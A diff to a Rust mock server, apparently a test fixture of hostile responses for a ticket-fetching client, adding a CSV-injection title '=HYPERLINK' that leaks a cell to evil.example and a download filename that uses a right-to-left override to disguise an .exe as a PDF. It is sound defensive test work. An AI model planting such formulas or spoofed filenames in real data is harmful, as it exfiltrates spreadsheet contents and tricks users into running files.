@@ -17,6 +17,8 @@
 //! | `lying-total` | says `total` is 10^12 and every page holds the same ticket |
 //! | `escape-text` | 400 whose `error_msg` holds ESC, OSC, BEL, C1 and bidi controls |
 //! | `escape-ticket` | one ticket whose title, status and site name hold the same controls |
+//! | `formula-title` | one ticket whose title is a spreadsheet formula |
+//! | `bidi-attachment` | a file download named `invoice\u{202e}fdp.exe` (`Content-Disposition`, RFC 6266) |
 //! | `year-minus-1` | one ticket `updated` in year -1 |
 //! | `unauthorized` | 401 with an error body |
 //! | `unmapped-status` | 1000 tickets whose status no document lists |
@@ -42,6 +44,8 @@ pub const MODES: &[&str] = &[
     "lying-total",
     "escape-text",
     "escape-ticket",
+    "formula-title",
+    "bidi-attachment",
     "year-minus-1",
     "unauthorized",
     "unmapped-status",
@@ -52,6 +56,9 @@ pub const MODES: &[&str] = &[
 /// override that makes `exe.txt` read as `txt.exe`.
 pub const HOSTILE_TEXT: &str =
     "boom\u{1b}]0;pwned\u{7}\u{1b}[2J\u{1b}[31mred\u{9b}1m \u{202e}txt.exe";
+
+/// A title a spreadsheet would run (OWASP "CSV Injection").
+pub const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
 
 /// Decompressed size of the gzip bomb.
 pub const BOMB_SIZE: u64 = 1 << 30;
@@ -104,6 +111,21 @@ async fn answer(Path(mode): Path<String>, RawQuery(query): RawQuery) -> Response
             t["site_name"] = json!(HOSTILE_TEXT);
             json_response(page(1, vec![t]))
         }
+        "formula-title" => json_response(page(
+            1,
+            vec![ticket("2025-06-01 10:00:00+0000", "ASSIGNED", FORMULA)],
+        )),
+        "bidi-attachment" => (
+            [
+                (header::CONTENT_TYPE, "application/octet-stream"),
+                (
+                    header::CONTENT_DISPOSITION,
+                    "attachment; filename*=UTF-8''invoice%E2%80%AEfdp.exe",
+                ),
+            ],
+            "MZ not really a program",
+        )
+            .into_response(),
         "year-minus-1" => json_response(page(
             1,
             vec![ticket(
